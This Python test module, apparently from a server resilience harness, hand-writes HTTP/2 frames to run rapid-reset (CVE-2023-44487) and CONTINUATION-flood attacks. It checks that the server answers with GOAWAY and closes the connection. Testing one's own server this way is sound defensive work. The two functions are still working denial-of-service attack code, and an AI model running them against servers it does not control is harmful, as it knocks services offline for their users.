"""HTTP/2 (h2c, prior knowledge) attacks: rapid reset (CVE-2023-44487) and CONTINUATION flood (CVE-2024-27316 class).

Frames are written by hand (the h2 package's state machine refuses to send these sequences); header blocks are
HPACK-encoded with the hpack package that h2 depends on. The server must answer with GOAWAY and close, and stay up.
"""

import struct
import time

import hpack

from harness import check, readable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0x1, 0x3, 0x4, 0x7, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class FrameReader:
    """Collects frames from the server until GOAWAY or EOF."""

    def __init__(self, sock):
        self.sock, self.buffer = sock, b""
        self.goaway = None  # (last stream id, error code)
        self.closed = False

    def poll(self, seconds):
        if not readable(self.sock, seconds):
            return
        try:
            chunk = self.sock.recv(1 << 20)
        except OSError:
            self.closed = True
            return
        if not chunk:
            self.closed = True
            return
        self.buffer += chunk
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, payload = self.buffer[3], self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == GOAWAY:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = (last & 0x7FFFFFFF, code)

    def wait_closed(self, seconds):
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.poll(max(0.01, deadline - time.monotonic()))
        return self.closed


def _open(target):
    sock = target.connect()
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock, FrameReader(sock)


def _get_block(encoder, path=b"/healthz"):
    return encoder.encode([(b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b":authority", b"h")])


def rapid_reset(target, limits, streams=10_000):
    """HEADERS then RST_STREAM(CANCEL), stream after stream, in batches of 100 without waiting."""
    sock, reader = _open(target)
    encoder = hpack.Encoder()
    sent = 0
    try:
        for first in range(1, 2 * streams, 200):
            batch = b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, stream, _get_block(encoder))
                + frame(RST_STREAM, 0, stream, struct.pack(">I", 0x8))
                for stream in range(first, min(first + 200, 2 * streams), 2))
            try:
                sock.sendall(batch)
            except OSError:
                break
            sent += 100
            reader.poll(0)
            if reader.goaway or reader.closed:
                break
        closed = reader.wait_closed(5.0)
    finally:
        sock.close()
    check(reader.goaway is not None, f"no GOAWAY after {sent} reset streams (closed={closed})")
    check(closed, "GOAWAY but the connection stayed open")
    return f"GOAWAY (error {reader.goaway[1]}) after {sent} of {streams} reset streams, connection closed"


def continuation_flood(target, limits, frames=10_000):
    """HEADERS without END_HEADERS, then CONTINUATION frames of fresh literal fields, never ending the block."""
    sock, reader = _open(target)
    encoder = hpack.Encoder()
    sent, block = 0, b""
    try:
        sock.sendall(frame(HEADERS, END_STREAM, 1, _get_block(encoder)))
        for index in range(frames):
            # Literal without indexing, new name: 0x00, name length, name, value length, value.
            block = (b"\x00" + bytes([8]) + b"x-f%05d" % (index % 100_000) + bytes([100]) + b"v" * 100) * 100
            try:
                sock.sendall(frame(CONTINUATION, 0, 1, block))
            except OSError:
                break
            sent += 1
            if index % 10 == 0:
                reader.poll(0)
                if reader.goaway or reader.closed:
                    break
        closed = reader.wait_closed(5.0)
    finally:
        sock.close()
    check(closed, f"connection still open after {sent} CONTINUATION frames")
    check(sent < frames, f"all {frames} CONTINUATION frames were taken")
    what = f"GOAWAY (error {reader.goaway[1]})" if reader.goaway else "close without GOAWAY"
    return f"{what} after {sent} CONTINUATION frames ({sent * len(block) // 1024} KiB of header block)"
